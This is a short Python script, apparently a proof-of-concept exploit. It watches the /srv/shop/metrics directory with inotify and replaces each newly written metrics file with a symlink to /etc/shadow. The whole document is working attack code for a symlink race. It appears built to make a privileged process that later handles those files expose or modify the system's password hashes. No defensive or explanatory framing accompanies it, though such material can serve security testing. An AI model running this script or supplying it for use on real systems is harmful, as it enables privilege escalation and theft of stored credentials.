"""As the application's user: as soon as a file of metrics is written, puts a link to /etc/shadow in its place."""

import ctypes
import os
import struct
import sys
import time
from pathlib import Path

CLOSE_WRITE, CREATE = 0x8, 0x100
EVENT = struct.Struct("iIII")

libc = ctypes.CDLL(None)
watch = libc.inotify_init1(os.O_NONBLOCK)
os.chdir("/srv/shop/metrics")
libc.inotify_add_watch(watch, b".", CLOSE_WRITE | CREATE)
end = time.monotonic() + float(sys.argv[1])
while time.monotonic() < end:
    try:
        events = os.read(watch, 4096)
    except BlockingIOError:
        continue
    while events:
        *_header, length = EVENT.unpack_from(events)
        name = events[EVENT.size : EVENT.size + length].rstrip(b"\0").decode()
        events = events[EVENT.size + length :]
        if name != "link":
            Path("link").unlink(missing_ok=True)
            Path("link").symlink_to("/etc/shadow")
            Path("link").rename(name)
